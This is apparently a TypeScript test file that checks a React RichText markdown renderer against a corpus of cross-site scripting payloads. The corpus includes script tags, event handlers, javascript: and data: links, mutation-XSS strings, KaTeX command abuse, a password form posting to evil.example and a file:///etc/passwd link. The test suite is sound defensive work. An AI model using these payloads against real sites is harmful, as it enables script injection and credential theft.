import { describe, expect, test } from "vitest";
import { RichText } from "./rich-text.tsx";
import { renderHtml } from "./testing/render-html.tsx";

/** Text that a malicious author may write, or that an author may paste from elsewhere. */
const corpus: readonly string[] = [
  // Scripts, and elements that load or run something
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<script\n>alert(1)</script\n>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>*{background:url(https://evil.example)}</style>",
  '<form action="https://evil.example"><input name="password"><button>Submit answer</button></form>',
  "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
  // Handlers
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<div onpointerover="alert(1)" style="position:fixed;inset:0">x</div>',
  '<a href="#" onclick=alert(1)>x</a>',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  // Links and images
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A;avascript&colon;alert(1))",
  "[a](java\\script:alert(1))",
  "[a](<java\nscript:alert(1)>)",
  "[a](<\u0001javascript:alert(1)>)",
  "[a]( javascript:alert(1))",
  "[a](javascript&#9;:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:msgbox(1))",
  "[a](file:///etc/passwd)",
  "[a](blob:https://example.org/1)",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<vbscript:msgbox>",
  "![a](javascript:alert(1))",
  "![a](data:image/svg+xml;base64,PHN2Zz4=)",
  "![a](http://evil.example/x.png)",
  "![a][b]\n\n[b]: data:image/png;base64,AAAA",
  '![a](https://example.org/x.png "\\" onerror=\\"alert(1)")',
  '![" onerror="alert(1)](https://example.org/x.png)',
  '[a](https://example.org/"onmouseover="alert(1))',
  "[a](https://example.org/'onmouseover='alert(1))",
  // Formulas
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\htmlClass{evil}{x} \\htmlId{evil}{x} \\htmlStyle{position:fixed}{x} \\htmlData{evil=1}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\text{<script>alert(1)</script>}$",
  "$\\unknown{<img src=x onerror=alert(1)>}$",
  "$\\def\\a{\\a\\a}\\a$",
  // Code, tables, tasks, footnotes
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | y |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
  // Invalid text
  "\u0000<script>alert(1)</script>",
  "<<script>script>alert(1)<</script>/script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
];

interface Tag {
  readonly name: string;
  readonly attributes: ReadonlyMap<string, string>;
}

const TAG_PATTERN = /<([a-zA-Z][^\s/>]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g;
const ATTRIBUTE_PATTERN = /([^\s=/>]+)(?:="([^"]*)")?/g;

/** Every tag in HTML rendered by React, which quotes attributes with double quotes and escapes "<" in text. */
function tagsOf(html: string): readonly Tag[] {
  return [...html.matchAll(TAG_PATTERN)].map(([, name = "", attributes = ""]) => ({
    name: name.toLowerCase(),
    attributes: new Map(
      [...attributes.matchAll(ATTRIBUTE_PATTERN)].map(([, key = "", value = ""]) => [
        key.toLowerCase(),
        value,
      ]),
    ),
  }));
}

const FORBIDDEN_ELEMENTS =
  /^(script|style|iframe|object|embed|base|meta|form|input|button|textarea|select|template|noscript|video|audio|source|foreignobject|use|animate|set)$/;
const ALLOWED_ADDRESS = /^(https?:\/\/|mailto:|#|\/(?!\/))/;
const KATEX_ELEMENT = /^(math|semantics|m[a-z]+|annotation|span|svg|path|line)$/;

describe("an author's text cannot run, load or take over anything", () => {
  test.each(corpus.flatMap((markdown) => [[markdown, false] as const, [markdown, true] as const]))(
    "%j, inline %s",
    (markdown, inline) => {
      const html = renderHtml(
        <RichText language={null} inline={inline}>
          {markdown}
        </RichText>,
      );
      const tags = tagsOf(html);
      // Nothing is missed: each "<" starts one of the tags found, or a closing tag.
      expect(html.match(/</g)?.length).toBe(tags.length + (html.match(/<\//g)?.length ?? 0));
      for (const { name, attributes } of tags) {
        expect(name).not.toMatch(FORBIDDEN_ELEMENTS);
        // React adds a preload link for each image.
        if (name === "link")
          expect([attributes.get("rel"), attributes.get("as")]).toEqual(["preload", "image"]);
        for (const [attribute, value] of attributes) {
          expect(attribute).not.toMatch(/^on/);
          if (["href", "src", "action", "formaction", "xlink:href", "srcset"].includes(attribute)) {
            expect(value).toMatch(ALLOWED_ADDRESS);
          }
          if (attribute === "src") expect(value).toMatch(/^(https:\/\/|\/(?!\/))/);
          if (attribute === "style") expect(`${name} ${value}`).not.toMatch(/url\(|fixed|expression/i);
          if (attribute === "style") expect(name).toMatch(KATEX_ELEMENT);
          if (attribute === "id") expect(value).toMatch(/^user-content-/);
          if (attribute === "class") expect(value).not.toContain("evil");
        }
      }
    },
  );
});
